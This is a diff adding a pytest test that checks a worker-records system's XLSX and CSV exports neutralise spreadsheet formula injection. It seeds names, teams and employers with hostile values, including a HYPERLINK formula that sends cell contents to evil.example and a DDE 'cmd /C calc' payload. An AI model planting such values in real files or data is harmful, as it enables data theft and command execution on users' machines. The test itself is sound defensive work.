@@ -230,3 +230,65 @@ def test_cli_exports(site: Site, tmp_path: Path, capsys: pytest.CaptureFixture[s
     assert main(["export", "refused", "--db", url, "--project", pid, "--from", "2026-11-30", "--to",
                  "2026-11-01", "--out", str(tmp_path / "r.csv")]) == 2
     assert main(["export", "daily", "--db", url, "--date", "2026-11-02", "--out", str(tmp_path / "y.csv")]) == 2
+
+
+HOSTILE = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "team": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "trade": "+1+1",
+    "employer": "-2+3",
+    "kiosk": "\t=1+1",
+}
+
+
+def _make_hostile(site: Site) -> None:
+    """Values as an old import, a phone or another kiosk could have brought them (written straight to the
+    database: the import and the enrollment forms refuse them now)."""
+    from sqlalchemy import update
+
+    from store.models import Kiosk
+
+    with site.engine.begin() as c:
+        c.execute(update(Worker).where(Worker.id == site.workers["孙未确"]).values(name=HOSTILE["name"]))
+        c.execute(update(Employment).where(Employment.worker_id == site.workers["孙未确"])
+                  .values(team=HOSTILE["team"], trade=HOSTILE["trade"]))
+        c.execute(update(Employer).where(Employer.name == "上海乙机电安装有限公司").values(name=HOSTILE["employer"]))
+        c.execute(update(Kiosk).where(Kiosk.id == site.kiosk_id).values(name=HOSTILE["kiosk"]))
+
+
+@pytest.mark.parametrize("kind", ["daily", "monthly", "refused"])
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_exports_never_carry_a_formula(site: Site, tmp_path: Path, fmt: str, kind: str) -> None:
+    """=HYPERLINK(...) and @SUM(...) names, teams, trades, employers and kiosk names: XLSX string cells
+    with the quote prefix, CSV behind a leading apostrophe; nothing a spreadsheet would run."""
+    _make_hostile(site)
+    out = tmp_path / f"{kind}.{fmt}"
+    if kind == "daily":
+        export_daily(site.engine, site.project_id, DAY, out, fmt)  # type: ignore[arg-type]
+    elif kind == "monthly":
+        export_monthly(site.engine, site.project_id, 2026, 11, out, fmt)  # type: ignore[arg-type]
+    else:
+        project = resolve_project(site.engine, str(site.project_id))
+        export_refused(site.engine, project, date(2026, 11, 1), date(2026, 11, 30), out, fmt)  # type: ignore[arg-type]
+    seen: set[str] = set()
+    if fmt == "xlsx":
+        ws = load_workbook(out).active
+        assert ws is not None
+        for row in ws.iter_rows():
+            for c in row:
+                assert c.data_type != "f", (c.coordinate, c.value)
+                if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t")):
+                    assert c.data_type == "s" and c.quotePrefix, c.coordinate
+                    seen.add(c.value)
+    else:
+        for row in read(out):
+            for v in row:
+                assert not v.startswith(("=", "+", "-", "@", "\t", "\r")), v
+                if v.startswith("'"):
+                    seen.add(v[1:])
+    expected = {HOSTILE["name"], HOSTILE["team"], HOSTILE["trade"], HOSTILE["employer"]}
+    if kind == "daily":
+        expected.add(HOSTILE["kiosk"])
+    if kind == "refused":
+        expected = {HOSTILE["name"], HOSTILE["team"], HOSTILE["employer"], HOSTILE["kiosk"]}
+    assert expected <= seen, (expected - seen)
